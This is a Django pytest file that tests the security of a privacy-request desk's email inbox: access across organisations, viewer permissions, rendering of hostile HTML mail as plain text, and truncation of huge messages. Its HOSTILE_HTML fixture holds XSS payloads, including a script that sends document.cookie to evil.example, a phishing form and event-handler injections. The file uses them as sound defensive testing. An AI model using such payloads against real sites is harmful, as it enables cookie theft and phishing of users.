"""Attacks on the desk's inbox (docs/SECURITY.md, "The inbox").

- Another organisation's manager names an item, its files or its original by id: 404, and
  nothing changes.
- A viewer posts the decisions: 403, nothing changes; the original .eml is not theirs.
- A hostile HTML mail (script, remote image, CSS, event handlers) and a hostile subject are
  shown as text: no markup of theirs reaches the page.
- A huge subject and body: the pages answer, cut, with nothing lost from the stored mail.
- The link action with another organisation's reference is refused like an unknown one.
"""

from __future__ import annotations

import re
import uuid

import pytest
from django.urls import reverse

from accounts.models import Role
from dsr import audit
from dsr.models import InboundAttachment, InboundStatus, Request
from dsr.submissions import submission_store
from tests.builders import blank_pdf
from tests.conftest import make_user
from tests.dsr.inbox.inbox_helpers import inbound_item

pytestmark = pytest.mark.django_db

HOSTILE_HTML = """<html><head><style>body{background:url(https://tracker.example/css.png)}</style>
<script>fetch('https://evil.example/steal?c='+document.cookie)</script>
<link rel="stylesheet" href="https://evil.example/x.css"></head>
<body onload="alert(1)"><p>Beste, ik wil <b>inzage</b>.</p>
<img src="https://tracker.example/pixel.gif?id=42">
<a href="javascript:alert(2)" onclick="alert(3)">klik hier</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/phish"><input name="password"></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>
</body></html>"""


def once() -> str:
    return str(uuid.uuid4())


def decisions(item_id: int) -> list[tuple[str, dict]]:
    return [
        (
            reverse("desk:inbox_convert", args=[item_id]),
            {
                "rights": ["access"],
                "language": "nl",
                "subject_name": "X",
                "subject_email": "x@example.nl",
            },
        ),
        (reverse("desk:inbox_not_request", args=[item_id]), {"reason": "spam"}),
        (reverse("desk:inbox_link", args=[item_id]), {"reference": "OPM-2026-00001"}),
    ]


def test_another_organisations_manager_cannot_see_or_act_by_id(
    desk_client, organization, other_organization
):
    intruder = make_user("manager@maxem.example", other_organization, Role.MANAGER)
    item = inbound_item(organization, files=[("id.pdf", blank_pdf())])
    attachment = item.attachments.get()
    client = desk_client(intruder)
    for url in (
        reverse("desk:inbox_item", args=[item.pk]),
        reverse("desk:inbox_original", args=[item.pk]),
        reverse("desk:inbox_file", args=[item.pk, attachment.pk]),
    ):
        assert client.get(url).status_code == 404, url
        assert client.post(url).status_code == 404, url  # never a 405 that confirms it
    for url, data in decisions(item.pk):
        assert client.post(url, {**data, "form_once": once()}).status_code == 404, url
    listing = client.get(reverse("desk:inbox") + "?show=all").content.decode()
    assert "Inzage en verwijderen" not in listing
    item.refresh_from_db()
    assert item.status == InboundStatus.NEW and not Request.objects.exists()


def test_a_file_of_another_item_is_not_served_under_this_one(desk_client, organization, officer):
    first = inbound_item(organization, files=[("a.pdf", blank_pdf())])
    second = inbound_item(organization)
    url = reverse("desk:inbox_file", args=[second.pk, first.attachments.get().pk])
    assert desk_client(officer).get(url).status_code == 404


def test_a_refused_attachment_is_never_served(desk_client, organization, officer):
    item = inbound_item(organization)
    refused = InboundAttachment.objects.create(
        inbound=item,
        original_name="invoice.html",
        declared_type="text/html",
        size=40,
        sha256="0" * 64,
        accepted=False,
        refusal="Only PDF, JPEG or PNG files are accepted.",
    )
    client = desk_client(officer)
    assert client.get(reverse("desk:inbox_file", args=[item.pk, refused.pk])).status_code == 404
    page = client.get(reverse("desk:inbox_item", args=[item.pk])).content.decode()
    assert "invoice.html" in page and "Only PDF, JPEG or PNG files are accepted." in page


def test_a_viewer_cannot_act_nor_download_the_original(desk_client, organization, viewer):
    item = inbound_item(organization)
    client = desk_client(viewer)
    for url, data in decisions(item.pk):
        assert client.post(url, {**data, "form_once": once()}).status_code == 403, url
    assert client.get(reverse("desk:inbox_original", args=[item.pk])).status_code == 403
    item.refresh_from_db()
    assert item.status == InboundStatus.NEW and not Request.objects.exists()


def test_a_hostile_html_mail_is_shown_as_text(desk_client, organization, officer):
    item = inbound_item(
        organization,
        subject='<img src="https://tracker.example/s.gif" onerror="alert(4)">Inzage',
        body="",
        html=HOSTILE_HTML,
    )
    assert item.body_from_html
    client = desk_client(officer)
    for url in (reverse("desk:inbox_item", args=[item.pk]), reverse("desk:inbox")):
        html = client.get(url).content.decode()
        # Nothing of the mail is markup: no tag, no handler, no remote address in an attribute.
        assert not re.search(r"<[a-z]+\b[^>]*(evil|tracker)\.example", html)
        assert "steal" not in html and "background:url" not in html
        assert 'onerror="' not in html and "onload=" not in html and "onclick=" not in html
        assert "javascript:" not in html and "<script" not in html
        assert "&lt;img src=&quot;https://tracker.example/s.gif&quot;" in html
    page = client.get(reverse("desk:inbox_item", args=[item.pk])).content.decode()
    body = page.split('<pre class="mail-body text">', 1)[1].split("</pre>", 1)[0]
    assert body == "Beste, ik wil inzage.\n\nklik hier\n\noverlay"
    assert "nothing in it was loaded or run" in page


def test_a_huge_subject_and_body_are_cut_on_the_page_and_kept_whole(
    desk_client, organization, officer
):
    subject = "Inzage " + "x" * 990
    body = ("Ik wil inzage in mijn gegevens. " * 8000)[:250_000]
    item = inbound_item(organization, subject=subject, body=body)
    client = desk_client(officer)
    listing = client.get(reverse("desk:inbox"))
    assert listing.status_code == 200 and "x" * 200 not in listing.content.decode()
    page = client.get(reverse("desk:inbox_item", args=[item.pk]))
    html = page.content.decode()
    assert page.status_code == 200
    assert "The text is cut here; the whole message is in the original." in html
    assert len(html) < 160_000
    item.refresh_from_db()
    assert len(item.body_text) == 250_000 and item.subject == subject
    original = client.get(reverse("desk:inbox_original", args=[item.pk])).content
    assert len(original) > 250_000
    # Turning it into a request keeps the start of the text and the whole original.
    client.post(
        reverse("desk:inbox_convert", args=[item.pk]),
        {
            "rights": ["access"],
            "language": "nl",
            "subject_name": "S",
            "subject_email": "s@example.nl",
            "form_once": once(),
        },
    )
    request_obj = Request.objects.get()
    assert len(request_obj.description) < 16_000


def test_the_link_action_refuses_a_request_of_another_organisation(
    desk_client, organization, other_organization, officer, outsider
):
    foreign = submission_store(
        organization=other_organization,
        rights=["erasure"],
        channel="email",
        language="nl",
        subject_name="Iemand",
        subject_email="iemand@example.nl",
        actor=audit.Actor.for_user(outsider),
    )[0]
    item = inbound_item(organization)
    response = desk_client(officer).post(
        reverse("desk:inbox_link", args=[item.pk]),
        {"reference": foreign.reference, "form_once": once()},
    )
    assert response.status_code == 400
    assert f"There is no request {foreign.reference} in this organisation." in (
        response.content.decode()
    )
    assert not foreign.messages.exists() and not foreign.attachments.exists()
    # The page's suggestions never name another organisation's requests.
    page = desk_client(officer).get(reverse("desk:inbox_item", args=[item.pk]))
    assert foreign.reference not in page.context["link_references"]
    item.refresh_from_db()
    assert item.status == InboundStatus.NEW
